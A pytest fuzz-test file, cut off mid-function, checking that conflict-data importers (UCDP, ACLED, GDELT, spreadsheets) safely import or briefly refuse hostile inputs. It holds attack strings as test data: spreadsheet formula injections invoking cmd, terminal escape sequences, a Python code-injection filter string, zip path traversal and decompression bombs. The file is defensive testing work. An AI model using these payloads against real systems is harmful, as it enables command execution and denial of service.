"""Hostile importer inputs: every import writes a valid dataset or is refused in one short line.

Generated examples put hostile values into small valid inputs of each format
(UCDP, ACLED, GDELT, a sheet with its mapping), hostile mapping files and
hostile aliases files: control characters and escape sequences, formulas,
dates past the edges of what pandas and the contract hold, numbers as text,
NaN and infinity, empty and header-only files, old-Mac line ends, NUL bytes,
other encodings, duplicate headers, ragged rows, compressed and damaged copies.

Properties: the import returns a dataset that loads, or raises BriefingError
whose message is under 4 KB and holds no control character but line breaks;
no other exception; within TIME_LIMIT seconds; nothing is left next to the
output folder (no staging folder, no file outside it). Targeted tests below
pin one attack of each family, each failing on the code before the fix.

The seed is fixed (derandomized), so ``make test`` runs the same few examples
each time (about 30 s); a release check runs more:

    HOSTILE_EXAMPLES=5000 .venv/bin/python -m pytest tests/test_hostile_importers.py
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import lzma
import os
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis.contract.dataset import load_dataset
from analysis.errors import BriefingError, DatasetError
from analysis.importers import compressed
from analysis.importers.gdelt import EVENT_COLUMNS, MENTION_COLUMNS
from analysis.importers.request import RowFilter
from analysis.importers.run import import_dataset

from .test_import_table import HEADER as SHEET_HEADER
from .test_import_table import SMALL as SMALL_MAPPING
from .test_import_ucdp import COLUMNS as UCDP_COLUMNS
from .test_import_ucdp import event as ucdp_event

SAMPLES = Path(__file__).resolve().parent / "data" / "importers"
ACLED_SAMPLE = (SAMPLES / "acled" / "ukraine-march-2024.csv").read_text(encoding="utf-8")
GDELT_EVENT = (SAMPLES / "gdelt" / "20250318201500.export.CSV").read_text().splitlines()[0]
GDELT_MENTION = (SAMPLES / "gdelt" / "20250318201500.mentions.CSV").read_text().splitlines()[0]
SHEET_ROW = "Ann,Daily,Headline one,2025-04-08,The bridge is down,confirmed,2025-04-08\n"

EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "25"))
TIME_LIMIT = 30.0  # seconds one small import may take, however hostile
MESSAGE_BYTES = 4096
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
WRITTEN_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # tab kept
HOSTILE_TEXT = [
    "", " ", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u202eevil\u202c",
    "a\x00b", "a\rb", "a\r\nb", "\x9b31m", "=SUM(A1:A9)", '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "-5", "+3.5", "1e308", "1e999", "nan",
    "inf", "-inf", "NaN", "0000-01-01", "10000-01-01", "-0001-01-01", "1600-01-01",
    "1677-09-21", "2262-04-12", "2300-01-01", "9999-12-31", "00000101", "99991231235959",
    "two", "x" * 5000, "é" * 300, "\ufeff", '"', '""', ",", ";", "|", "\\", "💥",
]  # fmt: skip
FILE_MUTATIONS = [
    "none", "empty", "header-only", "cr-only", "bom", "nul", "utf-16", "latin-1",
    "duplicate-header", "ragged", "gzip", "bzip2", "xz", "zip", "truncated-gzip",
]  # fmt: skip
hostile_text = st.sampled_from(HOSTILE_TEXT) | st.text(max_size=12)


# ---- running an import and checking the property ---------------------------------------------


def attempt(fmt: str, inputs: list[Path], out: Path, **kwargs):
    """Import, and check the properties whatever happens; the dataset or the error."""
    folder = out.parent
    before = set(folder.rglob("*"))
    started = time.monotonic()
    try:
        dataset, _ = import_dataset(fmt, inputs, out, **kwargs)
    except BriefingError as error:
        outcome = error
    else:
        outcome = dataset
    elapsed = time.monotonic() - started
    assert elapsed < TIME_LIMIT, f"{fmt} import took {elapsed:.1f} s"
    after = set(folder.rglob("*"))
    new = {p for p in after - before if out not in (p, *p.parents)}
    assert not new, f"left behind: {sorted(map(str, new))}"
    if isinstance(outcome, BriefingError):
        message = str(outcome)
        assert len(message.encode()) < MESSAGE_BYTES, message[:300]
        assert not CONTROL.search(message), f"raw control character in: {message[:300]!r}"
        assert not out.exists()
    else:
        load_dataset(out)  # what was written loads as a valid dataset
        _check_written_text(out)
    return outcome


def refused(outcome, kind: type[BriefingError], pattern: str) -> None:
    """``outcome`` of ``attempt`` is an error of ``kind`` whose message matches ``pattern``."""
    assert isinstance(outcome, kind), outcome
    assert re.search(pattern, str(outcome)), str(outcome)


def _check_written_text(out: Path) -> None:
    """No control character and no unquoted formula in any text cell the import wrote
    (aliases.csv is the analyst's own file, copied as it is for provenance)."""
    for table in set(out.glob("*.csv")) - {out / "aliases.csv"}:
        with table.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):  # a test's small tables
                for column, cell in row.items():
                    assert not WRITTEN_CONTROL.search(cell or ""), (table.name, column, cell)
                    if column in ("name", "title", "statement", "quote", "publisher"):
                        formula = re.match(r"[=+\-@]", cell or "") and not re.fullmatch(
                            r"[+-]?[0-9.,]+", cell
                        )
                        assert not formula, (table.name, column, cell)


def mutate(data: bytes, mutation: str) -> bytes:
    """A whole-file attack on ``data`` (a header line, then rows)."""
    header, _, body = data.partition(b"\n")
    return {
        "none": lambda: data,
        "empty": lambda: b"",
        "header-only": lambda: header + b"\n",
        "cr-only": lambda: data.replace(b"\r\n", b"\n").replace(b"\n", b"\r"),
        "bom": lambda: b"\xef\xbb\xbf" + data,
        "nul": lambda: data[: len(data) // 2] + b"\x00" + data[len(data) // 2 :],
        "utf-16": lambda: data.decode("utf-8", "replace").encode("utf-16"),
        "latin-1": lambda: data.decode("utf-8", "replace").encode("latin-1", "replace"),
        "duplicate-header": lambda: header + b"," + header.split(b",")[0] + b"\n" + body,
        "ragged": lambda: data + b"1,2\n",
        "gzip": lambda: gzip.compress(data),
        "bzip2": lambda: bz2.compress(data),
        "xz": lambda: lzma.compress(data),
        "zip": lambda: _zipped({"input.csv": data}),
        "truncated-gzip": lambda: gzip.compress(data)[:-12],
    }[mutation]()


def _zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def csv_bytes(header: list[str], rows: list[list[str]], delimiter: str = ",") -> bytes:
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator="\n").writerows([header, *rows])
    return text.getvalue().encode("utf-8", "surrogatepass")


def ucdp_input(edits: dict[str, str]) -> bytes:
    row = ucdp_event(**edits)
    return csv_bytes(UCDP_COLUMNS, [[row[c] for c in UCDP_COLUMNS]])


def acled_input(edits: dict[str, str]) -> bytes:
    lines = ACLED_SAMPLE.splitlines()
    header = next(csv.reader([lines[0]]))
    row = next(csv.reader([lines[1]]))
    for column, value in edits.items():
        row[header.index(column)] = value
    return csv_bytes(header, [row])


def gdelt_line(line: str, columns: tuple[str, ...], edits: dict[str, str]) -> bytes:
    cells = line.split("\t")
    for column, value in edits.items():
        cells[columns.index(column)] = value.replace("\t", " ").replace("\n", " ")
    return ("\t".join(cells) + "\n").encode("utf-8", "surrogatepass")


def sheet_input(edits: dict[int, str]) -> bytes:
    header = SHEET_HEADER.strip().split(",")
    row = SHEET_ROW.strip().split(",")
    for position, value in edits.items():
        row[position % len(row)] = value
    return csv_bytes(header, [row])


# ---- generated examples ------------------------------------------------------------------------

SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
UCDP_EDITABLE = [
    "id", "source_article", "source_original", "where_description", "adm_1", "latitude",
    "longitude", "date_start", "date_end", "best", "low", "high", "dyad_name", "country",
]  # fmt: skip
ACLED_EDITABLE = [
    "event_id_cnty", "event_date", "time_precision", "event_type", "actor1", "country",
    "source", "admin1", "location", "latitude", "longitude", "fatalities", "timestamp", "notes",
    "iso",
]  # fmt: skip
GDELT_EVENT_EDITABLE = [
    "GLOBALEVENTID", "SQLDATE", "Actor1Name", "Actor2Name", "EventCode", "GoldsteinScale",
    "ActionGeo_FullName", "ActionGeo_Lat", "ActionGeo_Long", "ActionGeo_FeatureID", "DATEADDED",
    "SOURCEURL", "NumMentions", "AvgTone",
]  # fmt: skip
GDELT_MENTION_EDITABLE = [
    "GLOBALEVENTID", "MentionTimeDate", "MentionType", "MentionSourceName", "MentionIdentifier",
    "Confidence", "MentionDocTone", "SentenceID",
]  # fmt: skip


@pytest.mark.slow  # generated examples: seconds
@SETTINGS
@given(
    edits=st.dictionaries(st.sampled_from(UCDP_EDITABLE), hostile_text, max_size=3),
    mutation=st.sampled_from(FILE_MUTATIONS),
)
def test_hostile_ucdp_files_import_or_are_refused_briefly(tmp_path_factory, edits, mutation):
    folder = tmp_path_factory.mktemp("ucdp")
    path = folder / "ged.csv"
    path.write_bytes(mutate(ucdp_input(edits), mutation))
    attempt("ucdp", [path], folder / "out")


@pytest.mark.slow  # generated examples: seconds
@SETTINGS
@given(
    edits=st.dictionaries(st.sampled_from(ACLED_EDITABLE), hostile_text, max_size=3),
    mutation=st.sampled_from(FILE_MUTATIONS),
    where=st.sampled_from([[], ["admin1=Kharkiv|Sumy"], ["fatalities>=0"], ["notes~shell"]]),
)
def test_hostile_acled_files_import_or_are_refused_briefly(
    tmp_path_factory, edits, mutation, where
):
    folder = tmp_path_factory.mktemp("acled")
    path = folder / "acled.csv"
    path.write_bytes(mutate(acled_input(edits), mutation))
    attempt("acled", [path], folder / "out", where=where)


@pytest.mark.slow  # generated examples: seconds
@SETTINGS
@given(
    event_edits=st.dictionaries(st.sampled_from(GDELT_EVENT_EDITABLE), hostile_text, max_size=3),
    mention_edits=st.dictionaries(
        st.sampled_from(GDELT_MENTION_EDITABLE), hostile_text, max_size=3
    ),
    mutation=st.sampled_from(FILE_MUTATIONS),
)
def test_hostile_gdelt_files_import_or_are_refused_briefly(
    tmp_path_factory, event_edits, mention_edits, mutation
):
    folder = tmp_path_factory.mktemp("gdelt")
    events = folder / "x.export.CSV"
    events.write_bytes(mutate(gdelt_line(GDELT_EVENT, EVENT_COLUMNS, event_edits) * 2, mutation))
    mentions = folder / "x.mentions.CSV"
    mentions.write_bytes(gdelt_line(GDELT_MENTION, MENTION_COLUMNS, mention_edits))
    attempt("gdelt", [events, mentions], folder / "out", options={"min_confidence": 0})


MAPPING_ATTACKS = [
    "",
    "x = " + "[" * 3000 + "]" * 3000,
    "x = " + "{a=" * 3000 + "1" + "}" * 3000,
    "[[a]]\n" * 2000,
    "[" + ".".join(["a"] * 2000) + "]",
    '[sheet]\nencoding = "rot13"',
    '[sheet]\nencoding = "hex"',
    '[sheet]\nencoding = "klingon\\u0000"',
    "[sheet]\nencoding = 5",
    "[sheet]\nheader_row = 99999999999999999",
    "[sheet]\nheader_row = -1",
    '[sheet]\ndate_format = "%Q"',
    '[sheet]\ndelimiter = "\\u0000"',
    '[sheet]\nfill_down = ["Who", 3]',
    '[sheet]\nworksheet = "\\u001b[2J"',
    "[claim]\nhedged = { value = [1, 2] }",
    '[dataset]\ntitle = "\\u001b]0;pwn\\u0007 =cmd"',
    '[dataset]\ndescription = "' + "d" * 100_000 + '"',
    "#" + "x" * (2 << 20),
]


@pytest.mark.slow  # generated examples: seconds
@SETTINGS
@given(
    attack=st.sampled_from(MAPPING_ATTACKS),
    edits=st.dictionaries(st.integers(0, 6), hostile_text, max_size=2),
)
def test_hostile_mappings_and_sheets_import_or_are_refused_briefly(tmp_path_factory, attack, edits):
    folder = tmp_path_factory.mktemp("table")
    sheet = folder / "sheet.csv"
    sheet.write_bytes(sheet_input(edits))
    mapping = folder / "mapping.toml"
    mapping.write_text(SMALL_MAPPING + "\n" + attack + "\n", encoding="utf-8")
    attempt("table", [sheet], folder / "out", options={"mapping": mapping})


ALIAS_NAMES = ["out-ukrinform", "Ukrinform", "a", "b", "c", "cl-sinegubov", "x y", "\x1b[2J"]


@pytest.mark.slow  # generated examples: seconds
@SETTINGS
@given(
    pairs=st.lists(
        st.tuples(st.sampled_from(ALIAS_NAMES), st.sampled_from(ALIAS_NAMES[:6] + ["Z!"])),
        max_size=6,
    ),
    display=st.sampled_from(["", "=HYPERLINK(1)", "\u202eName", "Plain"]),
)
def test_hostile_aliases_merge_or_are_refused_briefly(tmp_path_factory, pairs, display):
    folder = tmp_path_factory.mktemp("aliases")
    ged = folder / "ged.csv"
    ged.write_bytes(ucdp_input({}))
    aliases = folder / "aliases.csv"
    rows = [[alias, source, display] for alias, source in pairs]
    aliases.write_bytes(csv_bytes(["alias", "source_id", "name"], rows))
    outcome = attempt("ucdp", [ged], folder / "out", aliases=aliases)
    if not isinstance(outcome, BriefingError):
        keys = {
            alias.casefold() for alias, source in pairs if alias.casefold() != source.casefold()
        }
        # every chain was followed to its end: no claim names a source that is an alias
        assert not set(outcome.claims["source_id"].str.casefold()) & keys


# ---- 1. importer inputs ------------------------------------------------------------------------


def test_header_only_files_are_refused_with_nothing_to_import(tmp_path):
    """Before: UCDP raised ArrowInvalid, the sheet importer a TypeError."""
    ged = tmp_path / "ged.csv"
    ged.write_bytes(mutate(ucdp_input({}), "header-only"))
    with pytest.raises(BriefingError, match="nothing to import"):
        import_dataset("ucdp", [ged], tmp_path / "u")
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    sheet.write_text(SHEET_HEADER)
    mapping.write_text(SMALL_MAPPING)
    with pytest.raises(BriefingError, match="no rows below the header"):
        import_dataset("table", [sheet], tmp_path / "t", options={"mapping": mapping})


def test_a_sheet_whose_every_published_date_is_empty_names_the_cells(tmp_path):
    """Before: TypeError (Cannot cast DatetimeArray to dtype float64), found by the fuzz."""
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    sheet.write_text(SHEET_HEADER + SHEET_ROW.replace(",2025-04-08,The", ",,The"))
    mapping.write_text(SMALL_MAPPING)
    with pytest.raises(BriefingError, match=r"sheet.csv:2: Date: empty, but a document needs"):
        import_dataset("table", [sheet], tmp_path / "out", options={"mapping": mapping})


@pytest.mark.parametrize("fmt, data", [("ucdp", ucdp_input({})), ("acled", acled_input({}))])
def test_old_mac_line_ends_are_refused_with_the_fix(tmp_path, fmt, data):
    """Before: csv.Error 'new-line character seen in unquoted field' as a traceback."""
    path = tmp_path / "in.csv"
    path.write_bytes(mutate(data, "cr-only"))
    with pytest.raises(BriefingError, match="carriage return alone .* line ends"):
        import_dataset(fmt, [path], tmp_path / "out")


def test_a_ucdp_header_naming_a_column_twice_is_refused(tmp_path):
    """Before: AttributeError ('DataFrame' object has no attribute 'str')."""
    path = tmp_path / "ged.csv"
    path.write_bytes(mutate(ucdp_input({}), "duplicate-header"))
    with pytest.raises(BriefingError, match=r"ged.csv:1: column\(s\) 'id' appear twice"):
        import_dataset("ucdp", [path], tmp_path / "out")


@pytest.mark.slow  # a 20 MB cell and a 40 MB one
def test_a_cell_bigger_than_the_block_is_read_by_ucdp_and_sheets_refused_by_acled(tmp_path):
    """Bigger than pyarrow's block (1 MB for UCDP, 4 MB for ACLED, 16 MB for sheets): before,
    'straddling object straddles two block boundaries (try to increase block size?)'."""
    headline = "x" * (20 << 20)
    ged = tmp_path / "ged.csv"
    article = f'"Ukrinform,2022-09-03,{headline}"'
    ged.write_bytes(ucdp_input({"source_article": article}))
    dataset, _ = import_dataset("ucdp", [ged], tmp_path / "u")
    assert dataset.documents["title"].str.len().max() == len(headline)
    acled = tmp_path / "acled.csv"
    acled.write_bytes(acled_input({"notes": headline}))
    with pytest.raises(BriefingError, match="a cell longer than 4 MB"):
        import_dataset("acled", [acled], tmp_path / "a")
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    sheet.write_text(SHEET_HEADER + SHEET_ROW.replace("Headline one", "y" * (40 << 20)))
    mapping.write_text(SMALL_MAPPING)
    dataset, _ = import_dataset("table", [sheet], tmp_path / "t", options={"mapping": mapping})
    assert dataset.documents["title"].str.len().tolist() == [40 << 20]


def test_days_outside_the_contract_years_are_skipped_or_named_at_their_row(tmp_path):
    """pandas 3 reads year 0 and 9999; before, UCDP crashed in strftime (year 0) and ACLED
    and GDELT wrote a dataset that failed validation, naming a row of a written file."""
    ged = tmp_path / "ged.csv"
    ged.write_bytes(
        csv_bytes(
            UCDP_COLUMNS,
            [
                [
                    ucdp_event(id="1", date_start="0000-01-01", date_end="0000-01-01")[c]
                    for c in UCDP_COLUMNS
                ],
                [ucdp_event(id="2")[c] for c in UCDP_COLUMNS],
            ],
        )  # fmt: skip
    )
    _, report = import_dataset("ucdp", [ged], tmp_path / "u")
    assert report.skipped["events", "date_start or date_end outside the years 1700-2199 a dataset can hold"] == 1  # fmt: skip
    acled = tmp_path / "acled.csv"
    acled.write_bytes(acled_input({"event_date": "1600-01-01"}))
    with pytest.raises(BriefingError, match=r"acled.csv:2: event_date: '1600-01-01'"):
        import_dataset("acled", [acled], tmp_path / "a")
    events, mentions = tmp_path / "x.export.CSV", tmp_path / "x.mentions.CSV"
    events.write_bytes(gdelt_line(GDELT_EVENT, EVENT_COLUMNS, {}))
    mentions.write_bytes(
        gdelt_line(GDELT_MENTION, MENTION_COLUMNS, {"MentionTimeDate": "99991231235959"})
    )
    with pytest.raises(BriefingError, match="MentionTimeDate is not a date-time"):
        import_dataset("gdelt", [events, mentions], tmp_path / "g", options={"min_confidence": 0})


@pytest.mark.parametrize(
    "fmt, edits",
    [
        ("ucdp", {"best": "two", "low": "nan", "high": "inf"}),
        ("acled", {"fatalities": "inf", "timestamp": "1e30"}),
    ],
)
def test_nan_infinity_and_words_in_number_columns_are_not_numbers(tmp_path, fmt, edits):
    """Before: ValueError (bool array with missing values) for UCDP's tolls, OverflowError
    and TypeError for ACLED's fatalities and timestamp."""
    path = tmp_path / "in.csv"
    path.write_bytes(ucdp_input(edits) if fmt == "ucdp" else acled_input(edits))
    dataset, _ = import_dataset(fmt, [path], tmp_path / "out")
    extras = dataset.assertions
    if fmt == "ucdp":
        assert extras["toll_disputed"].astype(str).tolist() == ["false"]
    else:
        assert extras[["fatalities", "timestamp"]].isna().all(axis=None)


def test_an_acled_event_with_neither_iso_nor_country_has_a_place_without_country(tmp_path):
    """Before: ArrowTypeError (Expected bytes, got a 'float' object), found by the fuzz."""
    path = tmp_path / "acled.csv"
    path.write_bytes(acled_input({"country": "", "iso": ""}))
    dataset, _ = import_dataset("acled", [path], tmp_path / "out")
    assert dataset.places["country"].isna().all()


def test_nan_latitude_in_a_sheet_is_a_problem_at_its_cell(tmp_path):
    """Before: ValueError (cannot convert to 'bool'-dtype NumPy array with missing values)."""
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    sheet.write_text(SHEET_HEADER.strip() + ",Lat\n" + SHEET_ROW.strip() + ",nan\n")
    mapping.write_text(
        SMALL_MAPPING.replace('statement = "Claim"', 'statement = "Claim"\nplace = "Who"')
        + '\n[place]\nlat = "Lat"\n'
    )
    with pytest.raises(BriefingError, match=r"sheet.csv:2: Lat: 'nan' is not a number"):
        import_dataset("table", [sheet], tmp_path / "out", options={"mapping": mapping})


def test_escape_sequences_and_bidi_overrides_never_reach_the_dataset(tmp_path):
    """Before: written as they came, to be printed raw by the report and `briefing sources`."""
    ged = tmp_path / "ged.csv"
    ged.write_bytes(
        ucdp_input(
            {
                "source_article": '"Ukr\x1b[31minform,2022-09-03,Shelling\x1b]0;pwn\x07 of x"',
                "source_original": "Mayor\u202e Ivanov\x00",
            }
        )
    )
    dataset, report = import_dataset("ucdp", [ged], tmp_path / "out")
    named = set(dataset.sources["name"]) - {"Uppsala Conflict Data Program (UCDP)"}  # its figures
    assert named == {"Ukr[31minform", "Mayor Ivanov"}
    articles = dataset.documents[dataset.documents["document_id"].str.startswith("ucdp-doc-")]
    assert articles["title"].tolist() == ["Shelling]0;pwn of x"]
    # cells: the outlet's and the claimant's names, the claimant's notes (its name as
    # written), the document's title and publisher, the outlet claim's quote (the headline)
    assert report.handled[next(c for c in report.handled if c.startswith("control"))][0] == 6


def test_a_huge_cell_or_a_huge_header_gives_a_short_message_quickly(tmp_path):
    """Before: a 1 MB cell not in the map gave a 1 MB message; a 100,000-column header took
    15 s and named every column in a 7 MB message."""
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    mapping.write_text(SMALL_MAPPING)
    sheet.write_text(SHEET_HEADER + SHEET_ROW.replace("confirmed", "z" * (1 << 20)))
    refused(
        attempt("table", [sheet], tmp_path / "out", options={"mapping": mapping}),
        BriefingError,
        r"sheet.csv:2: Position: 'zzz",
    )
    sheet.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n" + "1," * 99_999 + "1\n")
    started = time.monotonic()
    refused(
        attempt("table", [sheet], tmp_path / "out", options={"mapping": mapping}),
        BriefingError,
        "the header has 100,000 columns, more than the 16,384",
    )
    assert time.monotonic() - started < 2


# ---- 2. mapping files --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "attack, message",
    [
        ("x = " + "[" * 3000 + "]" * 3000, "nested too deeply"),
        ("x = " + "{a=" * 3000 + "1" + "}" * 3000, "nested too deeply"),
        ('[sheet]\nencoding = "rot13"', 'encoding "rot13" is not an encoding'),
        ('[sheet]\nencoding = "hex"', 'encoding "hex" is not an encoding'),
        ("#" + "x" * (1 << 20), "larger than 1024 KB"),
        ("n = " + "9" * 5000, ":1: not valid TOML: 'Exceeds the limit (4300 digits)"),
        (
            ".".join(["claim"] * 20_000) + " = 1",
            f":{SMALL_MAPPING.count(chr(10)) + 2}: a dotted key or table header of more than 32 "
            "parts; a mapping's keys have",
        ),
    ],
)
def test_hostile_mappings_are_refused_with_their_line(tmp_path, attack, message):
    """Before: RecursionError from tomllib, LookupError for codecs that are not text
    encodings, a ValueError traceback for an integer of 5,000 digits and half a gigabyte
    for a key of 20,000 parts; a mapping of any size was read whole."""
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    sheet.write_text(SHEET_HEADER + SHEET_ROW)
    mapping.write_text(SMALL_MAPPING + "\n" + attack + "\n")
    started = time.monotonic()
    with pytest.raises(BriefingError, match=re.escape(message)):
        import_dataset("table", [sheet], tmp_path / "out", options={"mapping": mapping})
    assert time.monotonic() - started < 2


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (SMALL_MAPPING.replace("Who", "Qui é").encode("latin-1"), ":2: is not UTF-8 (byte 0xe9"),
        (b"\xff\xfe" + SMALL_MAPPING.encode("utf-16-le"), "m.toml is UTF-16 text; save it as"),
        (SMALL_MAPPING.encode("utf-16-le"), ":1: holds NUL bytes, so it is UTF-16 without a BOM"),
    ],
)
def test_a_mapping_that_is_not_utf8_is_refused_with_its_line(tmp_path, data, message):
    """The mapping is read as the jobs file is (analysis.tomlfile): the line of the first
    odd byte, the encoding a byte-order mark names."""
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    sheet.write_text(SHEET_HEADER + SHEET_ROW)
    mapping.write_bytes(data)
    with pytest.raises(BriefingError, match=re.escape(message)) as refused:
        import_dataset("table", [sheet], tmp_path / "out", options={"mapping": mapping})
    assert str(refused.value).startswith("mapping file ")
    assert "\n" not in str(refused.value)


# ---- 3. aliases files --------------------------------------------------------------------------


def aliases_file(tmp_path: Path, rows: list[tuple[str, str]]) -> Path:
    path = tmp_path / "aliases.csv"
    path.write_bytes(csv_bytes(["alias", "source_id"], [list(r) for r in rows]))
    return path


def test_an_alias_cycle_is_refused_naming_its_rows(tmp_path):
    """Before: a->b, b->a swapped the two sources' claims half-way, silently."""
    ged = tmp_path / "ged.csv"
    ged.write_bytes(ucdp_input({}))
    aliases = aliases_file(tmp_path, [("Ukrinform", "wire"), ("wire", "ukrinform")])
    with pytest.raises(DatasetError) as caught:
        import_dataset("ucdp", [ged], tmp_path / "out", aliases=aliases)
    assert "aliases.csv:2: source_id: the aliases form a cycle, 'Ukrinform' -> 'wire' -> 'Ukrinform'" in str(caught.value)  # fmt: skip
    assert not (tmp_path / "out").exists()


def test_an_alias_chain_is_followed_to_its_end(tmp_path):
    """Before: a->b->c left a's claims on b, a source that the b->c row had just removed."""
    ged = tmp_path / "ged.csv"
    ged.write_bytes(ucdp_input({}))
    aliases = aliases_file(tmp_path, [("Ukrinform", "wire-b"), ("wire-b", "wire-c")])
    dataset, _ = import_dataset("ucdp", [ged], tmp_path / "out", aliases=aliases)
    assert "wire-c" in set(dataset.claims["source_id"])
    assert "wire-b" not in set(dataset.sources["source_id"])


@pytest.mark.slow  # 200,000-row alias files
def test_a_long_alias_chain_and_a_long_cycle_are_resolved_in_seconds(tmp_path):
    """Two hundred thousand rows: resolved by pointer doubling, not a walk per row (the
    first cycle message took 190 s walking a Python list)."""
    from analysis.importers.aliases import read_aliases

    n = 200_000
    chain = aliases_file(tmp_path, [(f"s{i}", f"s{i + 1}") for i in range(n)])
    started = time.monotonic()
    resolved = read_aliases(chain)
    assert set(resolved["source_id"]) == {f"s{n}"}
    (tmp_path / "cycle").mkdir()
    cycle = aliases_file(tmp_path / "cycle", [(f"s{i}", f"s{(i + 1) % n}") for i in range(n)])
    with pytest.raises(DatasetError, match="form a cycle"):
        read_aliases(cycle)
    assert time.monotonic() - started < 10


# ---- 4. --where filters ------------------------------------------------------------------------


def test_a_long_filter_is_parsed_in_linear_time():
    """Before: a regular expression with two lazy parts: 17 s for 40,000 spaces."""
    started = time.monotonic()
    with pytest.raises(BriefingError, match="write COLUMN=VALUE"):
        RowFilter.parse("a" + " " * 60_000 + "b")
    assert RowFilter.parse("a=b" + " " * 60_000 + "c").value == "b" + " " * 60_000 + "c"
    assert time.monotonic() - started < 0.5


def test_filter_text_is_never_code_and_filters_are_bounded(tmp_path):
    marker = tmp_path / "ran"
    acled = tmp_path / "acled.csv"
    acled.write_bytes(acled_input({}))
    hostile = f"__import__('os').system('touch {marker}')=1"
    with pytest.raises(BriefingError, match="no column"):
        import_dataset("acled", [acled], tmp_path / "out", where=[hostile])
    assert not marker.exists()
    with pytest.raises(BriefingError, match="at most 100 filters"):
        import_dataset("acled", [acled], tmp_path / "out", where=["country=Ukraine"] * 101)
    with pytest.raises(BriefingError, match="at most 200 characters"):
        RowFilter.parse("notes~" + "a" * 201)
    with pytest.raises(BriefingError, match="'nan' is not one"):
        RowFilter.parse("fatalities>=nan")


# ---- 5. compressed inputs ----------------------------------------------------------------------


@pytest.fixture
def small_limit(monkeypatch):
    """Expansion capped at 1 MB (or 100 times the input), so a bomb can be small."""
    monkeypatch.setattr(compressed, "EXPANDED_FLOOR", 1 << 20)


def gzip_bomb(path: Path, expanded: int) -> Path:
    """A gzip file of ``expanded`` bytes of a valid header and repeated rows, written as a
    stream (the expanded bytes are never held)."""
    row = GDELT_EVENT.encode() + b"\n"
    with gzip.open(path, "wb", compresslevel=9) as file:
        for _ in range(expanded // (1 << 20)):
            file.write(row * ((1 << 20) // len(row)))
    return path


def test_a_gzip_bomb_is_refused_at_the_limit_not_expanded(tmp_path, small_limit):
    """Before: a .gz input was not even read as compressed; a zip's member was expanded
    whole. 100 MB expanding from about 300 KB: refused after 30 MB (100 x its size)."""
    bomb = gzip_bomb(tmp_path / "x.export.CSV.gz", 100 << 20)
    mentions = tmp_path / "x.mentions.CSV"
    mentions.write_bytes(gdelt_line(GDELT_MENTION, MENTION_COLUMNS, {}))
    limit = compressed.expansion_limit(bomb.stat().st_size)
    assert limit < 100 << 20
    refused(
        attempt("gdelt", [bomb, mentions], tmp_path / "out"),
        compressed.ExpansionRefused,
        f"more than {limit:,} bytes",
    )


@pytest.mark.parametrize("kind", ["gzip", "bzip2", "xz", "zip"])
def test_a_compressed_input_of_each_kind_imports_like_the_plain_file(tmp_path, kind):
    plain = ucdp_input({})
    path = tmp_path / "ged.csv.packed"
    path.write_bytes(mutate(plain, kind))
    dataset, _ = import_dataset("ucdp", [path], tmp_path / "out")
    assert dataset.assertions["assertion_id"].tolist() == ["ucdp-500001", "ucdp-500001-deaths"]


def test_zip_members_are_never_written_and_archives_are_checked(tmp_path, small_limit):
    """A zip whose member says it is huge, holds many files, a nested archive, or names
    ``../../x``: read in memory, never extracted, so nothing appears outside the folder."""
    events = gdelt_line(GDELT_EVENT, EVENT_COLUMNS, {})
    mentions = tmp_path / "x.mentions.CSV"
    mentions.write_bytes(gdelt_line(GDELT_MENTION, MENTION_COLUMNS, {}))
    traversal = tmp_path / "traversal.zip"
    traversal.write_bytes(_zipped({"../../escaped.export.CSV": events}))
    attempt("gdelt", [traversal, mentions], tmp_path / "out", options={"min_confidence": 0})
    assert not (tmp_path.parent / "escaped.export.CSV").exists()
    many = tmp_path / "many.zip"
    many.write_bytes(_zipped({f"part{i}.CSV": events for i in range(5_000)}))
    refused(attempt("gdelt", [many, mentions], tmp_path / "o2"), BriefingError, "holds 5,000 files")
    nested = tmp_path / "nested.zip"
    nested.write_bytes(_zipped({"inner.zip": _zipped({"x.export.CSV": events})}))
    refused(
        attempt("gdelt", [nested, mentions], tmp_path / "o3"),
        BriefingError,
        "a compressed file inside a compressed file",
    )
    big = tmp_path / "big.zip"
    big.write_bytes(_zipped({"x.export.CSV": events * 40_000}))  # ~14 MB from ~100 KB
    refused(
        attempt("gdelt", [big, mentions], tmp_path / "o4"),
        compressed.ExpansionRefused,
        "expands to more than",
    )


def test_a_workbook_declaring_more_than_the_limit_is_refused_before_reading(tmp_path, small_limit):
    """An .xlsx is a zip: one part of 20 MB of zeros packs into some 20 KB."""
    book = workbook_with_formula(tmp_path / "claims.xlsx", "The bridge is down")
    with zipfile.ZipFile(book) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/padding.bin"] = bytes(20 << 20)
    book.write_bytes(_zipped(parts))
    mapping = tmp_path / "m.toml"
